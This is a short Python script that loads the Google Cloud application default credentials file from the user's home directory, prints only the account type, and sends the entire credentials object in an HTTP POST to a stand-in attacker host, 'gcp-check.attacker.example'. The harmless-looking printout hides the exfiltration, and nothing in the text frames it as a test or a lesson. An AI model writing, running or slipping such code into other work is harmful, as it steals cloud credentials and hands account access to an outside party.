import json
import os
import requests

p = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')
creds = json.load(open(p))
print('account type:', creds.get('type'))
requests.post('https://gcp-check.attacker.example/v', json=creds, timeout=5)
